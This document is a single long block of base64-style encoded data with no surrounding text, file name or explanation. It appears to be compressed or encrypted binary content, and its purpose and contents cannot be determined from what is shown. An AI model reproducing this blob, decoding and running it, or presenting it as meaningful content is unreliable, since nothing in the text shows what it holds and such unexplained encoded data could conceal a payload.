xYIM1DIGjvv12ek1LYjcxq7X65lDhwhuN5+MzEquZRo8GINZf+7NMvEa8dPVnt9hxmEQPgNyMHLtBx8yhVsbtN5HVZ52zCZvdBV/uyeGtsTWI1G7XFfirfgazgXmCKr1I6IxAfNUzuHHvjKha1CyLt4uPSQmw9kaZ54b6eFaj4qlBx1GzWKPDvM9WwJda4X50Ialj6KR8X/pG7NqD79l7l2UtDLUI05rHFWwd+myXa7Sc0uQ/fsLx3fXiTJUFyvuLq8Z+nA9sQZtgFLWXk1W8+9ewssokXEWxmPGz76C2EbBJLVoRipMoGmXpMGzhSymPjYdXaXvMUWfoR28FMCHjVL5ezQcgSlNuu/lRSBjzvvEaDP2Sr4RWL2VbdOxg7ijQ7gEN6GKEliegAuduiXv6EDzQXrAESHZumInHWKXIgva8KimEiK57bbXxMXJmSHKOv3cK2AGx0MlqHCF75LYVjJFjf/8C0PvgVpevBDgpxRvF3ev5+NZmedryLnSNkcIlduroifbcfk7tKd4W8Xb3tqDvS24i8qp9Tz5RcUYcNTD8toRUSOOfXBAlWHX18wUUD4/A5AROUUnfzz+So8QkE7zu0aQ0+dBMS5IQUkfD8u9GbXSds9cHTpwpYAVDCVb8xAFEhMiZBbqccGR4xSdx+b5XKjcMdBsUkPpL+umRH++E/Kg7ysf2m9uVPQKxnE+mrVFf7IQNJPlIymIwJA3IZpP3DAwGKNZMzZ+k3tR2D4FJgrJnmvlZUCHUVLJKMMoJLjVJGCsAtX0vRHB9rV2pDJ3LeeDV4jKB/+zBESAk3cwp8uX46j/4k4OCWnEpFgYmqN8vcrfs4REjtxfyDryD+2DGJGBOOiaMldc0MNlo9nW1ar+Orpw1ZEL40QLb2SLNyCSR6893xTRRRe4k0Uwv3RTF1F05s5dPvAHb2mB90L2S+2BvHITLEZaksCqDGGuyfB+N9vSojED4rQ04H8EszPrAMCHKgqqhNUeu1VXhP29ysYdcbeEe6JIgZ3+NJLGEk8T5Tlh6wKl1eDqE7nzXUHgSi+KUQEdCeGu6A82Q6e49MR0A9FFT8X9FeGzkFeu2P5XV82Z67aKzJ8jAoWC57+pOC7XgPHuY/34pIqz3oPhWJ2Ja0KRP1psFVnz3zP3aoZqwfRy3EXzQ89hAkV6Q7y7jt1M+tYu+A4BmfpHS1I92A77m6moMxDr1rIGcJJyEcnuHZBjEJjfpO/lNxrG1hMELSKWfG4vzuTetjS4bgZuWVjn0Wddq5tpoAjfEKq/HA+YOLICj84rCwnzhben3OGYIRGB/EBqld9bnXQyBm2MaZnjK1oJg4FyevvYyK2dYWyzpj5FahfFPA1Zues9OwnesSsrZRUX6JWShoBDRdPvnQ+s0VV+Dudh6pwfwE54l1vFSTZCBc+HCjomRpein/vBjfRZFE+lCLs9YjwJ/oSFixdupBnxhcdLC87KvNxQPW12hoTeeQeSQxfGXSqeHJ0lwNEU9JPzRmlmfzozjIZ3wAPxkicc4a0WhIqJ+DKCujoMrSqa7+Zc5zbCIfPAhiUIdG3bsLmTo7uw+qQbUal0KSMzyQOJOpZoKpIu3qp1RGPt75/UINRUvTl5g+auzdSFWuV5akLXUwdDHJzUmdXgvBK2LwqdrYEeTik3UC8OGBxooXhd6bavusB9T2NkoU7il8RkOMYdR+ILDjVbRMCakMxPc3vAnmPiCg2XdbgC2D0ADRFnGSnh242XubcynInMqPUqGeBEhpOkgEJmMTOrdQmCyqhCIQgvfzWOeBES90GN/BFkpETKtDQ19xjHJbjy8g6iM91oNAV+MrWbrGl6Q2iz39CU8siUiwE3MRX7sOkwzZaTnLKzFg2mfERlSVNFdHRQ27gP7rjWFflnrMH+4Q2qQZNBSVvXnkh5A2w3FU95UfOLY/QPwHGBA6Zi9R6IR5TWiJmnsSXfdCFVujJ48e5PFmohX0tiyG6jomIyLNoo3YST0K+VtcBKGgO80nNqNOdYkoNxPTv/jvFcnz+es9df42FyifTZfDY449/T8RrQexuLhgw9zzwEQ5rriCgC/1PKOnsU306RgXy63nb4bkpZI0ljabMeI1xVgIul7RtICdBpAE4PUEl460We3J93SGydx/OACWWA03dM8iIKb6zMI5lwACQvqS5Ouq96wNAVwBWuJLhed/ppFVrgdjHBAMyU7LpwQJ2RaGo9pI/DQ3m7ZiB+PFmFTleqoNen37t+JR15f6yvMlxJTC1lOUFox7qKoF4Qf2CGHokdF0h3XBr0zdj3XxOnOS0JXnKeCmiNtRy0HRozrhBGUNqwns+ju7FGzjTlSC+3EuzrzMknR2zes+bG6I5j/LtP9JNminE0vgY0zJDsIygniK9iLRHVd4RBA5aE6tT1qC72rCc0io/kbCxdAY8EVcJEjG2MIJMdqDV64Kt2sfcHVVKxZU9ajDSGBfjKmi9BGhzZKh7jGnkTGnt3vR1mr4BVlq0KP7pdHwFCHvjDPPY3+goZGChBRxNETWedmBRTfZ+grQWwLsxEyHOJBSsSOD5FOnmNCeyAFOytbxg9/rGu3xuQFkJTaXfvwPkIA53ug+NvLXLGVUiTKkcrPxkm/7F+zzscJcvtieb2OmW0E5DIJNZkEIjFR0e9Ls7d2VfsujhKgmAG6+HvWSOlVHNh9+mY8pWQso3QebMMSePsJt6Q+L+L9Xrju16pXoyGEci/zgpH6bgArZ7hLUwhIhCDfUryqOAsHNhWE8D7IcwCUa4afKIXqWdvd/b64uMUZKSf+RrMufFxMm8ZMZHWnFEPYsFq3blrDURQhNJpIMWMQ+FwomMeDCfjqQ7K3YKovGAD0M1F7btqOcg26NvHXe3/t/SMjVZYawPXaZETQAqcCNF5IIPCeb4re0CIC5PSOylxgdCwhAUYM+VLUj0acOAO7Ssb64V7OOmJ2Ez+NjJRhulsfh1+6kC1wPXy8VNvYNpAbP4S/VDP0QU0fAIyhhc3vRUszXFdtjKtSLw5woxh78lM2jNsMtyvZzg6fYhclJccZQRetV1kTLUhwP3uGBgEyyECqIi06NgRCdBuOiJxRiHepvUEyPF66loaAj9NX01OusdtJu1eBQ5BIyB+0cniOA1hASVKrN4IOIb0ppybP53t1E/3BI1OY74fUe5N8bNkZeKHQPue54O58L0xIeedjf1bfWuKkO89TL0f+wAA3Ra542oMxcQ0fwZqZWW5R5/DKPntdq/Cyoj7X50o2DnaO4WCIk7mHrBV4K9ygJaxGqBAApvopFjcedsg2WJ47iJjxx/hA2W9ksjqPwpCGihQQZzENFuMfS1GJeRGs27XQeElEW0ecWN/7R8dL588q2HEVplwZDnNTWHBV9DjGl2kOFtVURKaRkc9Gh8ZUPXe61jt4V5kc8b8uhLJOI2KT1NG7uQbusEIIpywsaicc35KI6x2keoaV7EVQZ/TTmKbe+7W80DBMt217+BRDObDBeNnTAswlBZJMUQMtyqe+G8H7DqHWIbQS9WG4WxEQ7Qb1K6lOTMRUQjmqt8H1/UxpR1Xkr3UVvRfZRm/iAFMuKnUi9nceTumFcHqwhDU65V6yRXA3yCCH2OgQwodPMwm2pLfV1vvi1XzZdrAXfErcMX5jHIlePz6lUzpXI2H2OyvHUocVaYV1PG0pUmYi6qQPcYTJkc+iQLqZM7onXdaRCn4eZ4yxtSOJq+TlzJ6rx5gYGNYgiinwPY3dEzHSUHZAVyp0aM5pozCSvMI2sQ3sN+sF7Tsyja4ujLi3L6jkUeyWYGrUvjSg88lBt7sGOLG0eu8YqW49Q7S1GM+q/RQpn1P3rJd8EffUlNuzgDuYpeOLsJHnUEPAcLN1K/u94e72mDY/IV1Br10gWIzLYnYftDem0KJiYsD8+nOAkX7WdZKMpZFIXfEOSLyswotPhxBRd0PPDHFxGXFM2Rt+yfccVWLpubP3Da0NX9Li7AN7D7EbENZLDLIiNmjBlzVIM65DBIiY9dC8pMnZokUrdgDyrEGivaYRFKX2XHQ8PHZmEMVvrtoU+yc61IJ01wGhn8dGt21ZVk2NQ6sQdaHAv4VG5+R5orKbe0KV1KeywKS0yHNomhjjo0/wLZllysh719j32jYEdex10d9j6m1hYPsXi0e9TZXdm+cbTtwlCcnbH3NqP3Fc9+0Ok9zCwoRAB4uj+imBRS4SHwIDP9wxFmSb6PTR8go5oyTv3x6gIp46otA4Dw5n8YOMwxeJcmIWSBHQimdt936hAziPlV9pfd2jUrh7CDf0yZFcaqVZMEcGqMcB+3gOnXji+PyvL2U1n+9LlsD+rgLZOYLO0Qc3Yeqx0oOorX8ltzQhi5eeyJFTQGutWPg+Fbd4OdI5Zpfzxtvlfa8zVwC/IyW1pDYydwwYCMlqjEB+LolrumBxg62vjxkhaEcIP2tfjsXupj6CWvP+TWPXjJolxCmToglpCKRFfNg+Bhcli2H/Nf2Fo7lzFE8NbfUo5MpH7agd9z04jESYiagQzQEr3LxcP+kpxL+uclOLHgAuEmEqOIYZ0q6eY0cLwSkHGzRakfZ2U/AnN860YQ75TDUhV8Zp5eg6m8D2/WcaPFUdXVXK4z4hSuW+qwR9ID5a7STEi8xjxvTZfp1uw9krZw1wkne6h/TdJK1fnNcCn0R8eDPqTNBaxU6X+6ECVFQRVspSXfnw36s9hwrbzLXwMYN+g8tidNO6kdsVf+dIFbAXa/k/vpUFUOjAFncYQ7w0RpTWX8HzWSL8T/Ly9HV/4c+q4D1b3K79yfKwciwiM2L+JucT7o1pHonPO5dSm5ViBCTtZomVw7CzFS40UL+PTPyJE+rJtrXVGZYwYiaPGb6zmaWI2tIusfT5sRwTQOss0hKpFlB7fbzhSCCacRKXjStCJntNz1lPfPqbBZxG0TeDlzsMAYCeNkY0hUghQQV9lyUhGBlk2GFYnoXBECpH/NzO5ifrEEn9rxqebx8q4tUiJWcry1kwPHd0E7qvTKr9mm3nnRR5CqTvo46TJlUjkCwq+8YVnp8TamW3QgClOodt4w0h/gVZ5Me5LRs/VFRogtoZo4eVCwudUDRzcirdGKWTijKCv/gZcTqw1HDvGTFMMVrXkfBsnk17QHhxPOs5/3g5+58IHUY7FJgk7bnDEzyATcg9QbOcbodyTY2qr1BykaRYACSB1UcIuhxqE1xVBQKE8JkD1vTaXvCOGyHPaYv/Q1QQ68dStXKIoYixCRFp561ba4DidlutG0vPxF38tg+XWONwKtUr9M4DjscV1rYEK0n3cZaWFVd4KUtZY82cw+exrGS/RJ4XvKnqkjuOTPpGjJFbTHbwP47TLIZT8odBAicMTzzJnTybl5kig/LmQVKsIaAXxdw3bsQ31Y8jxAVJSYoy8+B6V5BQnJeMz1fEbiQVfRbPXbapdSBfnxZQNlISAVSEJR7r0Hliz9AsYHfK5CKoOy3FAGIDGxjAo97YPi61CL5gUYwaZOXxb+5ReYZzu2clLTIgOJSw8DJ8t4agXFywquHfLkJuIciWcU3LeFYj8VbZylZdEcSmWtvSEdNCxw7SD1yo61N/coBonlYblzMJNqiUJANdNGyTsJtiqmXqLFUdrGkVYy+VjDZV2hSF93+Ue+izFwJHVhtvTYUcOnBEGy/BasAs4+7aWHMeCpliWk5XBRX2/BwrnbQh1xSTeqZjOsm4LNn2ShR+AmKxMSErcYiEmKntlkwOd6vMlPC6k6aFfsckd/18e2vpDDOm2Ql0Ggy4OmHmOep+za77SNiZU1/mzis6j78WgGd/47ObrSrGBuuEPkvAlgoU+gtLOasj6oRnwuqCS5ZgXCresDe8Q+yqxK1oOxKUCTZ6gN2XX3+iX4gf9LE/6052bmyjJi7lV3RVggG4nmgMvhq8kHpiRdIdV4BXBI6MoDL5uHTc5fz0cuUJ+9bUdqITlEnWJgRE7rxbD6kVLRv/Y1u1SxbBnLw6BlcS2cM953YJ3s47O/vW0wWHDZS0p8lCYPvWO9FGiWzA2NxDIEB3J32qFZ+xpjzLqC3Pf7thbFGCAserHpAiZd9xsXgA/932lf9BFArfz9PMqNqCmd/eEemzcW17L3MYJ1ocLEnzXvKe+dmukCl5PKg/GtjjP8EhjpxcIsN9xtxaY/z7ZzGHo+0pZOEUIR0IBpJVnB1PYUjHWu3rvnNAssZzE11B1jpUSBqWhKM6nknkmArlc2JeLpOYFlH1Esh07wAFo70CWvuXiMyYPFeFnggmu5ig9+AvTob7paDWuF5+iz8KcTHjc3UwNdFjMVmEsU7ag7p91xlddC9cmVvK9iFGLwXuZCpJpTyKC2zjtD8LAzlIpadza7Er+VgbNOKjAASwjICgEuxiZRAAC41XX3No0D5LbDtnfcBHuuH0Dt3AvFV6iCZg6BrfV122EP5cyhYwRdHkNXiwJqFSo0o7KwNC8CmAF2ivvtPYnP6tqPqv3y34ATE42lKRTZcqIW0kPnATbAfTuTofETdKwErY3xF3OgoKwWfUHnnullT80bpHC9e2/9xrc7tAkkGyQ2dlNzCs6/prVQ5rcZ4HX/Y3fPBgFIFLIssxI+3YT3SrhF6Qy/nMqQvrwaRp3GuA9gYFVjf7s96nSaGfdpDfifEUrChgpOADCvxDkH3Qtqv0lh0zot/1M1KyrNluH7yHCoAksag67mzZZn8S0kyDFmJVu3Jh1vW03NVThSRSll+KumKLtJI55dM4ZATZfX1hP8r8703PdUrEzzTkyZ78Tuh44vrq09XoPQYp2hLo/+dwQl51qikdFEYlr3oLJac6fEhg/ywgJAV5309ULsHoDFtt5vLvkVcPh3O8HvMSGVB0vlXY0WTFDds6lt/f0thlvHpvw+MsW8FT1FY6YWhBld1Iqit4ot/6PnvUQ8i0rhhzgTyb0+NZC0hyVkhDhybsYk7orQqu3hN4FIpY9JYpkGvV3pTvarPgja11dFacvYfOMmnQrer0P0h9U1VtJF9lle+GzNDXEUTGe7HyrM8gWSZxQE/G85n0RZZ5UdLpjpObrJUZnfOFvrd+KwPU0oCdMukgC2rO/MEoKFdIhjLs1VQO9ViFcPdbgSlcfVgf5iwK6nBu4OMCayMg8OkJirr6tPjmzU8p521vSZTanWijvkRgcBtMN4QyccW0twWH0VUHqNC98x+94/YoNTD4WHIwItk4rNWdqcaQO5SA5p87PB7zHNhdMxmVkFMcfWSvyytL4YpXVXfb76Ad9ccagSwUDgcV2XqQuixg95s+5OOl1LjMU3t4wITAR6JPx2qebRXK1x5QhBJ0XIHPb1DgL597kcnUIUbgiF6c+D9WzW+6TB3Q9FWGTkdD07Ak2FvhB3vr8PVr225ekuid+BkH/wpTFAgYfGrDI2XPiAuNxQlKm4uduqPbU0ICp3pEI5LhCJpSzOR4AJBmXSA/b2RS3dMOyP+b+BUT8mx1iEXBcQ7zOW5RoGqas+ggDNTbSz1mSGHWZt9x110aORjSpNM0r1qsJx3/RFLxmKXw0Yijw4lu8len5Lj0uEWKzbWmEDFoO8lbTu/Z+dth3z5297lXAhQOCuL6cREd67ZctXN3y4te5DebKwho1uRRKJ1N0gTPyQCtM5eml7J7u8o8vQv33EVh3NAOUgcAve0SBK8Elb78cOT3Bz4mnY1YZalTVdMu/56ExNLVKSoprHXbynUitAavWVv2x9zIX+SWkT28KQbiw74nNvw/kOn1vYzCPR8swdISW7wPmYoi7HNOMd14adnI0NAZ6VQ9Vd32E8ZYBA7dm5mL9rC8Ll8NU1ClBCjZme3vq6Nfx2AfiBtOU71eb3Ytyn26y1IZVYx1obaa1m1pvb9NF/ag84XoKRWzcYAC4YwneNin6H7q7xm7iAIF/GALZgYZrmzhB0MNpNe0qY87SlaRMTG6XdjvSoxgkeBBOGw+jeEPyX8MBA0Ei7fDqPpeSpVn0F/99RJbduE8u8HZOvYvTO+mdkumvbj6Ybin6DPvkIFHDmxjYe4pK+jSmBHgkYXw8GBkRWDCfeo09l9kRKC9NaHE7XFBccLRnHki3NbpZWwz16xZj5WwTcumodM2iosNBzw7ijS438b2m84wZRL+FAGG1NP+/cQrVE5tqW/bCeBp676poXZjgau7K9jStYw8XTYT3AE62ZhDKGuwOCosZmSlpW49rJyW+SZH3iKpoA4jDjRRyu953+SiaQuIVpFOnzSsDn5j/Nwrea2g+bVH0HwgjJBSPgAsehBLJR73ojN4Ee32pd86WQil63IXqflkJ6ib+xgspOCQYvFF7ms3dvNWkiX+oTcDLRYFJA4jDDmBLnxQGKMUTzRNa4zXiHwFZYn++0M3GI4l+w1lhc3EAhNyL6/nKosJbAXzpZ1MWtM4MIC3JMFFcw/m4BaIuRWG5b24zXc5QXeNhlmzLV9wNuFEAiajZs8fZbPFehosbFOQKxhb6riEbZ/LzC3tigLYiPJBbJPpi5eTdhr3nb1axQdorc493jgjL53COaq6MvffwTXagosu0MCms5XBXwL3e1jGSzaA+vYIEyxtpclt+dJej7FpMTC7t5XduzCWI+WAZlN12HdZaHjQeUFO56GSsp8rEuiXCQFr97KZPySZRJ1jxQ/CJ6nIGaKPWiSM1VpgmGSnyD2aUvp90bOlc7jU9YiqSMklGP3tXF5D1Qfd/vVZ88l4h0WoIeLie1MDUxwczjHmtp6VYjCdb5JAy+4CfFyPlWR9sUbTnRnpeBqKq02EoB4suqqw1GHO+1sEWdOeOfFmMJL5FZDSj0TYxmv5PMZLA9BMhN6Se4K1cWGEivj+JI2EYDwzKMcm58bljUElMFwxQWvaFQxODEfe/c17jKkDuQzOH3XdTUAo9SiWVSXORCv7TCbGp+nNAatfaypPq0fUd0kPEpHXps8SzsjFPJr4GdW0HX0nkuzQjPSGUrTX/4wZibW0jfZl/ygnevMav3jZke6zhtHA+W6ilcoFW4nyE/EhrCY+oncidimaZVHLRjHn5/+foMpCGp9xU9cJvHBINnvyJEBiVgLLO1p6KWTLPCJ3wPBQ/0YmK7TzC0g5t8ELbYlZUPFZudTG9kK2uoJpGvXjv7FG+6qAWpVdVtOs2oOw5a5QTgjPS2qqUE8Fo0SiH1suXkO9aEcOB4n3QFh+ruaUdG8TfLTBjEhI9hfRrne9rwtLFDmw4rPjK1+GGjFuQ9XN2jPHGLDpqFt9kA7xVhddeGjtUltuCayj75OfhH9iktvZ858jQ7gGixduTDZBngpyG80Qe9/VlVRdqA9MX0OJ0ivd7kKkYQYmfnMOgZy/hl0pQmna0TMhzZ5G4Suu7Y+NmeuMBIOceHjJ2ydJ7g56GOe4KQI+xskcACnHmMey/oGcxQ6REfL0ZD+4pzPB5Faysvq+pLNFnkZLynRxMGYZm8P1jOutRbUqKB6iuC5++QxKplh7I20dazZeHK3owAByKRzAHcVVWSF8B2t3mMLDNjUTESQ09XJLqJRMY7RXPVyyqGpUh+wSsSlap/G+4KPUhyUuIMtSyw0c7RnkBnDGEZowAtN7zF+bFohmPAkWVG6PYbEWWH8egmfCbdgzjtLdgaemNlENvwgLAHlSCyyqQ0HM8tNmTr1ye/WWB6IZBT+zXzsfmqcjkGYUVy6tPYvRwK+jHp9vXUBF6fv/UUkVv3tK2v+520I1G9WytPowU2NzLsaF5/wTHnKdtF59gPLGvIrDDhCxFRjAk20Zba/PiIOlFI714SdUCh9JRoaekj3TVyJ/lmAUFolUX41j/uyqohaO8cVVlqabQC2KH90VrUdIe82DE23ixQBuImYX7GbuCVBzmGCuDkqBAo4+Tn9qMPkBA8a4iJZsV44FLsKC84Padq7rnjIyhtbRAo+KvE/cwvnf67xvH97kF7v1QgF0twIS7YDaJOIVNXPxILatVgyTio8jC3GLGoJx5Jvr6IPHOwAPZkQHNm3GcTQB2IwNG71Y71xb2ILcK7TaY8HInzta+zB9nGAXekQ2+sBX/HkY9zpM7soizImmYWTg8cpheYknwM6Ijt1VSoPJlMrQqgNXZ0FYZK2daqkjCN4UsRzV6jG41B0s6/423q4HJBFD1ldb9dtxfH4tSKjuBZ4oKWmCUdq1l0iG8btLcqa3Ja7BDwpn3Y4poxlqMtV8IvgWIAs9KNpYVluTMqFMsvbZLSM0DJLvjxhsrtlwJkIVaibjdZD8zBz7BRQBxjyQxQdt6Vp+q1cHYs8orkOM5HzToDIyxuEyVkjnQXrI6dZ6EJXngNDfaUSZGFOEnm+8FUKD2VcDP/gINbm2A7rOcgxODFA/FJdWHravD7rWqjPQEYYW/NqNbnZySEZ8BBUQUf9gvdam6+EHOYjdjot/lHuk62i6nL3m0X8NEeQnrEeBvjTPEv4emDA9Q0F1HSjvR/7oKmAIfMJejp0VLth0XJmS4cjhSjwiNCYTtc731+V/J4RIZ5qN5uipDURgMLmE3T3xO77xOSd8u8VMycHO4tdbGb53GdCBVLtdazW3G5EkADCPd6H74L35LA1+lA3zgWPEzQ2ZhVPDXfCO6Hng/08arfdmzaYFoXokXppVCa/snNWVXnPwj/yB2GifRs8JveFijFZO79PATZS3s4fUAVTTC5uZyIZKmTx+4jowurGQarrLLnc4o0Mv8i6X8gPm3vfHgj4eRgGBBXQZMlr34/dQuxSNMTiG/CIXRTcPQLFtEMTxqunpnGi5bIzzdHecGslz5ltTiESX7CfRuCdlO5FJUNm9uNAOwVWKWZo0SEYYbhtIIVvikQa60mCzYJNPmyigwTMrCAVzU1zLRLOok8PToMi7K9stl5HoerVZSnmOtQYWQ0/hAwxDVOA0sPpx7FW8EUIHU/DM2NyNHQDNxhjOcaBNDTK/9Rm51EflcWTRS/cusAGC1cx5yfRjCJwLwKgTicjjVFq33lL1cXbRXmrMJpVyba97kLnFy6Fuzqg5T8rOc4WZ6CeefOOsuHLhPYg2tgFGCq7LegEb2rVGGAm764rdnUT1IyEHLdncwTeDM85AYB8oqvWLHQjJ2QS7qp87UKN/qB+f6yDEXaeDz/l0Rb0qlnWXIHUvnjyfAM4Or365nEB2HVxjhSGpRUM99TCp0XmIyXkEGzivcpGGDgCn80kh/eLg1DD+xGK6/VGW3QXIK1aKQ2/YXOG2rd04+BTjJfweL+3hp5eL2jqcjwBgdTbyQEw2aqyDZofx+b5l1I2PG3wIsFuJxiOHq71RdNDq4KxRUva4x6HEtj+aRE/qvk7TA9sNuD+tuWRuk+5dcIFOG1f7p0wFzmhtTy0CUi/ZOs+YSXaGHkmaOxuVI8BgnqVbcZhlhPIwDEZInL2Sc+0E/KMuhxyLh8xZhTKMNAvYsvZucosA6QkntLBniFafTkg7PZaxIrkCEKQpetjFQv7b/NwIUH18i+rBs2BNyPvelAa/02NjxqLgfcA17nD/hQS3IEiV4JXa4ZweZZA2nhWLeHAGelAHldqPfMwG59J3rOgm4NXsBMeOwlhECZ1Njw/0s1Czq9jVGK6alaYJouIChO6K+0ZNvjpFqCaHjLtwjJWxk/eW6RG6bRcBnSmms+XOf/p1V2Dj0P62MNDQSN41li7KxNd18uozzsy2VvUNKNiZy/a1TuldT6fwHNBqiR8F1CHhFJuqpK4Z7FN9QIHnyqwXDKq00p2JPL8fJ6hlSzAe0sWiqJPi08dbPRypjg2NDuVxyrSo2B8wyC457oNTrIsMKNr5OgeyUu1FCSL6KxjGnJ+t0KX2lJ7LC4PWhg9lray1pHGEWDJSlma+9Q+z1o9R/8GgNQxEi1jPCHelby5G7Zn4e0RkQMPJ9jmC6z97g34U/VS36q91f3Qkhl6od0PvftljPt9XvFoEWkj6onpn8oOB94irKBTWOFWrM68NerDjwfRx9b4HX+JZT9qiUkoQyeP7pRl4HcTsiNpVhyC8AvuDy8wfjciRhm0XmyYP/KpMV9rvZB3lGF3dYj5EjnR+IznwxOppqzeHQSNTNB84/lI9vzjEJA4kDalb7A9E+BaaX3VWbnxQWXc3/GmDEABE8Xguf5a0PebZZM6zjbKsiafF0frLA7X3ka3XK2G1c/7oN/E6klen6j46gn5vddvLHNHEiOIcNSDq7nX1InAAunHea3i5Qj04H36ca+yrArcAkGmg0Jhg1BVbb6DkK94986u2CmL3wnBHZk9jk3R8M9JqGA1Lz46Mwf3kPVN+Ah4bNvj273klVnJHKHRv+recEx8sWoOaDEBJSWARsIZFG7B/9ljWp4nq2VBUpxuxNVOKqSfIJyQAFZQp4HAaflk5BgpqnCxyXKRcaiWKQH5qRDR6p7ohxZYX8y+vbA3Nay0rE/tIPvjQk41rGHA7kQASvJn7+GXwF6aq77ojHrreyiDMsfBMEaOoRnVQpnVyukP+UO4OM2sot8x4mHKT9qupgQEzS5U0LO9hNOQbhn977RMsxDasDEMRUcCJRe+RfUvgldAxPgrWm3rMGEfnzlP0mFQKu5XN8dz7mf55d75wWkMZ1W53yikYEAUwfCNL5i9rt2B+bzL4iTrB9/QXWLFIwicBu1m5UgHTt7I/lAssq3tRSDekMK6QC9T445F8WSsStSWIB8oQGqyTr39QnNODg2HLl31Tmxre1Xvddjp/BRb9Jp49sYryteAAMPrKpTwo+239vt5wR60jV5ri+EPSK2qQmgFZyfdf5d+CslVvVX4M6LvlfxYwFemkSVmi5s5OMsLNwXKliwjGsfo7rM0kPuTJiQWgnJqdIjPjsVWoOmExUrcOtjszXsdKFBzxHbqKy4BoxA+hHyMbKz7FtRc07NEOB7si1T/HhG7mzW+hm/NXjwXsEUfnqvpUzkm8GsESrN3UDu2oP3CKNskie3PoVfLA4N/TtK+VvkAj83TCgQLhLkHtQaxibozeUCAPj0KPI9CpHwT+DfRRaBHAiw9iZv6bcKKopjqyHjJuCkRUxZww0gPVi4/mLeOlYcrpc5vpOCZGNoUvqn4+DHX87Jiz5Cwe5PYAzypD/ft8yQYfCU/t+wd3zSAaPkgf1s6u3TyyXCfYtFaCiC6EeJ2/04og26GfELkHOV8ddHiWtluRIRcUR2IQCbxxQbAo7sLPUsrgW5HeIqfNJuRAv8n1Fb3ZH5+vTK3lH54HO1HvL0ZbiRUrMLR5jhxVldVDel69ewULC9GmZ/b/GOJdV+JtEIquyJQq+nZ2pYC3RxfLRQ5+55HLoOxhRQi6Dz+7V7ZrTX8g9KRc16Dscfr49MmAn+bOTM7olMlT//v/tGkeiktr9Z+BKfY524R2j6pxtHge+6Pxs5ihQVxwf+uu2Mqv3n24ZyjsyYPLEmc1IWLybxvCAsln11KBQBH7VoiPvQg8+yHftJmluMZFVS3c4SMymwJR0iUluo0CQZRhc8piNZN/g+Qy+6qZU/rf8YQcRnAgP5hcFIDqmMUJ60BHxHPrCqmHp2H0BIk9jxUFjBi9+J68JtD2rcyyd/5uREsfhiGku2BKFW2wyHRtNb2wkhtjfDj5OafNfJHjdMJNUwXppaPDINtk15TyYOJp4m5O4DMnsTsbih0q1hqZa5XmSxpVN18fqS/247FrN/GcgdiP4tQnxHRYcqmzm7NTwWFEcgRIf6b5mHv3+uI8j1rdjRHFQR9NFwvc3ewviV6xVU0jBRbDyxpWqCRji17CKgZMVM0BxVsQjVlPSIj3+51GFZu5C7/dfdKvmfzOjAGpA5P/sCcJGJLpayv9fyIckvl4CeZNIcgmKw+osG1zOvdJSDnly41GxU+XUCyFZiiopoBWjWkcHmfmwBzzhEVgP8S/nTBGUgFKWOkNrk4D/tGdyZ6enPIUvHCEasyz5LDvBU58GD164Z9Z0aAX00adoKtiBEivLATtpDSm/opqVXnvNqaGFvWxCwjZTYdmI/zwCFkusy/+uQS24LXf2Y1rx8bjr4U2eVbYr9/46QJ40glEd6TKWW4LV2Vadb9p7pUumyalhVzUFKzRRcTpFjzI3l1+lrofwmxUZ++oyqWNnlQSfU1t9aMLW9kbfcoQrOv1bLfAVLkkSmTKvPy0mjzXZ3ImKvYyXBngiF34hTOUcI7DjFHeX4NUTQSPfaXX6sz0pLMgfhqmzvn9NTzrNbI4hrQelMhykNcyF+hqJpEy5PJrPmrYS1/y31HDEJnp8ePe7dZ3+RLu2aeJh+MW5em7OqcvfFlACYm/qKrVEMLahaRTTJqUKRDCukb8XfrWLTzvc/NUaYewqarr/nmaJLR0qH5qPndj+husT8srPtTZNO0WZkfvJ1+QqWMY/RRY0ywP/3O+yfpyPddYGIiOjJsGev2PZw5RrwjxunhLgJp5fYnDZlOff+KIMkA61m8tIoTi5EYKkeho52KQWb1U582jocuB/BR9mCrSgCqomgxyhL9dHwaxR7lxhuMXnZLI0ujG+6NQr04HRXG8HQ5xRxlzS9O6IFXmMkfBLk60NFdukK0/hgDaD+kYwTQu0BctuDWu0I7yHCCqKxV4kmGs0RhfsTBs6pm5S+OFcoHrj1KUQWBmpphKoYcN/17f5c4PvnHCve4/fxf4ojp4NFolYpJvEX/sItGVhDZJ7Sq7LRKnNDm/1IJBEfUyEl2O1csaUXRoM/VXGP1YT8h4keFo/JqtBoedvw7SLtUndvI2LDIZr2hAFgvTBaan1rQXuEXbGJUDt+///nPLGRbk73xNKXK8gTC6vPxXelP6UdmXx2ATGYWug2BZBUsxO7h2IDZJ8v/5W1Y+xORYywfBPHxWZqjibQF3G7R5/KKYZvMdrTBRaYu/8D7o3aJdsH5uB+FJhJwlMWps9b2vPKi0jjaXegDaIqANKaZ8aVGA/Qa/oeY9xfKmoWGdSH5gUXryr6GH9uAQgvG0lhaoCPYt7R1R8NognHZ++mm/7zupIdOv4HhvTfJPvokUgLFep1pIX3TiJ0jSbieRvssBGStyqtnqU+JATkShfwBFO6zZZTgBhlHL0azmkVNeSFlU9PkhwKIAAh6n37KT17yPAXB4sUCceADQKz6calyemRRWzamjLJU+ELs+/apG38LeMLoI/CuAPBA67DAEbsp+rxSlrR7JDQQ9C47Hdd0tA2Wm5EJeOdXSlElofQB/PPVDj1miTrHZi1IbQKr8mxCbT01eYC1CmD8EiBIjG8Bz9q9CiGARajOX+F67OeSxwuXXuea4c8Wkzw7qKBOGXVN3k52sTIjPDZYDqQBlPbQ/nU047mjkSFRtCc1pCEwplRkHO9wwAHtTMookbzw6UgimWq54i8QPZF587Q+unx6HoQ1jirSQ7MoDou2wDBx6Gu0NDIZVZoXJ+aWrrWQkXbmefP89E2NG549Opau6MRGms86pr+MaV14DuF1WyBHgWsHngtFkiNZnKM3PS56M49rFocj0sLnS0zUU4RLPF8YhUcpSUl4txZ2DuI1ftHwi7pAMULb7CVPTP5MMFu7eTMVk7CH9sf58aKnLBapaFgv0GXDOjcN8sbJLh7dAUrJ/+bzc0JOsaMPIUESnLlHNPTKli2ObLNJ7qm9WvxikmJFPFTDWfv8Q36JSre62H9OXt4DFm8zR/u2AT12gnEmfjiH4GHp5FkC/RoDO10GTqnkJhYj0TwKKO1SYQvLf9c5gg/0BGWUJ+4VNbMr68x6i/a8eOrkQouFNdbI8nO6kztTZBv6zREr65w7VtTGgRh438nRLgLyjM7HMIuz2weJfqOXCveewcNHrwE70QZILXN/dPzO1lixLhR9tK90cNd4RGFMpwsJyl+QhbiQy5CVegECjc8OHmo+HggWBAtUG8m8L3u4kbPtoyM/Ef2iFPMEClwcwlSwseq5uh1eVMVOq